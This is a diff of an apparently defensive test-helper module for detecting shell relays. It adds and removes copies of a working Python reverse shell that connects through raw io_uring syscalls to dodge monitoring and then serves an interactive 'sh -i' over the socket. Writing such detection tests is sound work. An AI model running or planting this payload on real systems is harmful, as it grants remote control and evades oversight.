@@ -51,6 +51,44 @@ def pipe_relay(s):
     c.wait()
 `;
 
+/**
+ * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
+ * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
+ * Arguments: host, port.
+ */
+export const IO_URING_RELAY = `${PYTHON_PIPE_RELAY}
+import ctypes, mmap, socket, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+u32 = ctypes.c_uint32
+class SqOff(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
+class CqOff(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
+class Params(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
+IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
+def uring_connect(sock, host, port):
+    p = Params()
+    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
+    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
+    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
+    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
+    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
+    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
+    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
+    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
+    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
+    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
+    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
+    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
+    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
+    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
+s = socket.socket()
+uring_connect(s, sys.argv[1], int(sys.argv[2]))
+pipe_relay(s)
+`;
+
 /** A command whose answer only a shell computes (no echo of the input can contain it), and that answer. */
 const MARKER_COMMAND: [string, string] = ["echo RELAY_$((6*7))", "RELAY_42"];
 /** How long a commanding listener keeps an answered shell alive before `exit`: the rules read /proc of live processes. */
@@ -461,52 +499,3 @@ export async function commandingListener(
  * benches start it the same way (bench/daemon.mjs).
  */
 export { CLI, peakRssMb, startDaemon, stoppedLine, type Daemon, type StoppedLine } from "../../bench/daemon.mjs";
-
-/**
- * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
- * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
- * Arguments: host, port. (relay-evasions.test.ts has its own copy; relay-netns.test.ts uses this one.)
- */
-export const IO_URING_RELAY = `
-import ctypes, mmap, os, socket, struct, subprocess, sys, threading
-libc = ctypes.CDLL(None, use_errno=True)
-libc.syscall.restype = ctypes.c_long
-u32 = ctypes.c_uint32
-class SqOff(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
-class CqOff(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
-class Params(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
-IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
-def uring_connect(sock, host, port):
-    p = Params()
-    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
-    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
-    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
-    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
-    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
-    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
-    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
-    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
-    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
-    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
-    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
-    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
-    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
-    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
-s = socket.socket()
-uring_connect(s, sys.argv[1], int(sys.argv[2]))
-c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
-def up():
-    while True:
-        d = os.read(c.stdout.fileno(), 4096)
-        if not d: break
-        s.sendall(d)
-threading.Thread(target=up, daemon=True).start()
-while True:
-    d = s.recv(4096)
-    if not d: break
-    c.stdin.write(d); c.stdin.flush()
-c.wait()
-`;
